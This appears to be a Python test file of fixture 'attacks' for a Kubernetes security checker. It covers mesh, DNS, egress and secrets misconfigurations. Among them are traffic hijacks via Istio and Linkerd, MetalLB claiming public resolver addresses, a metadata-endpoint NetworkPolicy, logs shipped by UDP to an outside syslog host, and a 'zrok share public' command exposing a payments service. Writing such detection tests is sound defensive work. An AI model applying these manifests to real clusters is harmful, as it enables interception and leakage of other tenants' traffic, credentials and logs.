"""Attacks on clusters by meshes, routes and places outside of the country (2026-11-29, thirteenth set, blind).

Objects by the documentation of Kubernetes and of the operators; what is not marked as read is as known.
"""

from ..blind import TAGS, crd, k8s, meta, workload
from ..harness import Given
from . import Attack

OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
RES = ("FJ-RES-", "FJ-ESC-", "FJ-IDN-", "FJ-EXP-")
LITTLE = {"requests": {"cpu": "1", "memory": "2Gi"}, "limits": {"cpu": "1", "memory": "2Gi"}}
METADATA = "169.254.169.254/32"


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


SECRET_OBJECTS = (
    '- objectName: "ledger-db"\n  objectType: "secretsmanager"\n  failoverObject:\n    objectName: "ledger"\n'
)

ATTACKS = (
    Attack("proxies of a namespace get their identities from the service of a team", IDN, (
        k8s("networking.istio.io/v1beta1:ProxyConfig", {"metadata": meta("identities", "payments"), "spec": {
            "environmentVariables": {"CA_ADDR": "istio-ca.team-a.svc:15012"}}}),),
        "critical", "the team signs the certificates of payments and sends them the token of each pod (Istio, "
        "'ProxyConfig', environmentVariables; 'pilot-agent', CA_ADDR)"),
    Attack("the administration of a proxy is a port of the mesh", OPEN, (
        crd("networking.istio.io/v1:Sidecar", {
            "workloadSelector": {"labels": {"app": "x"}},
            "ingress": [{"port": {"number": 8088, "protocol": "HTTP", "name": "http-proxy"},
                         "defaultEndpoint": "127.0.0.1:15000"}]}),),
        "major", "each pod reads the proxy's settings and certificates and stops it (Istio, 'Sidecar', "
        "defaultEndpoint; Envoy, 'Administration interface')"),
    Attack("calls to payments end in a team's service by a profile of Linkerd", OPEN, (
        k8s("linkerd.io/v1alpha2:ServiceProfile", {
            "metadata": meta("ledger.payments.svc.cluster.local", "payments"), "spec": {
                "dstOverrides": [{"authority": "inbox.team-a.svc.cluster.local:8443", "weight": 1}],
                "routes": []}}),),
        "critical", "the team reads each request and answers it (Linkerd, 'Service Profiles'; "
        "linkerd2 test/integration, dstOverrides, read 2026-11-29)"),
    Attack("what payments sends leaves by the machine of a team", OPEN, (
        _top("cilium.io/v2:CiliumEgressGatewayPolicy", "payments-out", {
            "selectors": [{"podSelector": {"matchLabels": {"io.kubernetes.pod.namespace": "payments"}}}],
            "destinationCIDRs": ["0.0.0.0/0"],
            "egressGateway": {"nodeSelector": {"matchLabels": {"example.ae/tenant": "team-a"}},
                              "interface": "eth0"}}),),
        "major", "packets of payments pass through machines on which the team's pods stand, and firewalls take the "
        "team for payments (Cilium, 'Egress Gateway')"),
    Attack("services get the addresses of a resolver that everybody asks", OPEN, (
        _top("metallb.io/v1beta1:IPAddressPool", "names", {"addresses": ["8.8.8.8/32", "1.1.1.1/32"]}),
        k8s("metallb.io/v1beta1:L2Advertisement", {
            "metadata": {"name": "names", "namespace": "metallb-system", "labels": TAGS},
            "spec": {"ipAddressPools": ["names"]}}, "names-l2")),
        "critical", "a team's pod answers which names the machines of the data centre ask for (MetalLB, "
        "'Configuration', layer 2)"),
    Attack("the certificate of a team is shown for every host", IDN, (
        crd("traefik.io/v1alpha1:TLSStore", {"defaultCertificate": {"secretName": "team-a-tls"}}, "default"),),
        "major", "hosts without a certificate of their own are answered with the team's, and its key reads them "
        "(Traefik, 'Kubernetes CRD', TLSStore: only the one named default counts, for all namespaces)"),
    Attack("a team opens a port of the gateway for the bank's host, in plain text", OPEN, (
        crd("gateway.networking.k8s.io/v1:ListenerSet", {
            "parentRef": {"group": "gateway.networking.k8s.io", "kind": "Gateway", "name": "edge",
                          "namespace": "falaj-gateway"},
            "listeners": [{"name": "pay", "port": 8080, "protocol": "HTTP", "hostname": "pay.example.ae",
                           "allowedRoutes": {"namespaces": {"from": "Same"}}}]}),),
        "major", "callers of the host are answered by the team and sign in without TLS (Gateway API, 'ListenerSet', "
        "read 2026-11-29)"),
    Attack("every pod of a team has the network group of the database of payments", IDN, (
        crd("vpcresources.k8s.aws/v1beta1:SecurityGroupPolicy", {
            "podSelector": {}, "securityGroups": {"groupIds": [
                "sg-0a1b2c3d4e5f60718", "sg-0f1e2d3c4b5a69788"]}}),),
        "major", "the database lets the team's pods connect as those of payments (Amazon EKS, 'Security groups for "
        "pods', SecurityGroupPolicy)"),
    Attack("a service of a team answers for each name of the bank", OPEN, (
        k8s("core/v1:Service", {
            "metadata": meta("inbox", annotations={"external-dns.alpha.kubernetes.io/hostname": "*.example.ae"}),
            "spec": {"type": "ClusterIP", "clusterIP": "None", "selector": {"app": "x"},
                     "ports": [{"name": "https", "port": 8443}]}}),),
        "critical", "names without a record of their own lead to the team's pods (ExternalDNS, 'Headless Services'; "
        "annotations, hostname)"),
    Attack("pods of a namespace may ask their machine for its role", IDN, (
        k8s("networking.k8s.io/v1:NetworkPolicy", {"metadata": meta("machine"), "spec": {
            "podSelector": {}, "policyTypes": ["Egress"], "egress": [{
                "to": [{"ipBlock": {"cidr": METADATA}}], "ports": [{"protocol": "TCP", "port": 80}]}]}}),),
        "major", "each pod that the hop limit lets through has the rights of the node (Amazon EKS, 'Best practices', "
        "restrict access to the instance profile)"),
    Attack("calls to payments pass through the proxy of a team", OPEN, (
        k8s("core/v1:Namespace", {"metadata": {"name": "payments", "labels": {
            **TAGS, "pod-security.kubernetes.io/enforce": "restricted", "istio.io/dataplane-mode": "ambient",
            "istio.io/use-waypoint": "inbox", "istio.io/use-waypoint-namespace": "team-a"}}}, "payments"),),
        "critical", "the team's waypoint ends the encryption, reads each request, and applies the team's policies "
        "(Istio, 'Configure waypoint proxies', cross-namespace, read 2026-11-29)"),
    Attack("an Alertmanager of a stranger is a member of the cluster of ours", RES, (
        k8s("monitoring.coreos.com/v1:Alertmanager", {"metadata": meta("alerts", "monitoring"), "spec": {
            "replicas": 2, "podMetadata": {"labels": TAGS}, "resources": LITTLE, "serviceAccountName": "alerts",
            "additionalPeers": ["alerts.collector.io:9094"]}}),),
        "critical", "it gets the log of notices and silences, and silences our alerts (Prometheus Operator, 'API "
        "reference', AlertmanagerSpec, additionalPeers)"),
    Attack("logs go to the syslog of a stranger, as packets", RES, (
        crd("logging.banzaicloud.io/v1beta1:SyslogNGOutput", {
            "syslog": {"host": "203.0.113.50", "port": 514, "transport": "udp"}}),),
        "critical", "each line of the namespace leaves in plain text (Logging operator, 'SyslogNGOutput', syslog, read "
        "2026-11-29)"),
    Attack("secrets are kept in a second region abroad in case the first is away", RES, (
        crd("secrets-store.csi.x-k8s.io/v1:SecretProviderClass", {"provider": "aws", "parameters": {
            "region": "me-central-1", "failoverRegion": "eu-central-1", "objects": SECRET_OBJECTS}}),),
        "major", "the password of the ledger has a copy abroad, and pods read it there (AWS Secrets Manager, "
        "'SecretProviderClass', failoverRegion, read 2026-11-29)"),
    Attack("a pod is published on the internet by zrok", OPEN, (
        workload("apps/v1:Deployment", {
            "command": ["zrok", "share", "public", "--headless", "https://ledger.payments.svc:8443"],
            "ports": []}),),
        "critical", "everybody who has the link reaches the service, past each ingress and firewall (zrok, 'Public "
        "Shares')"),
)  # fmt: skip
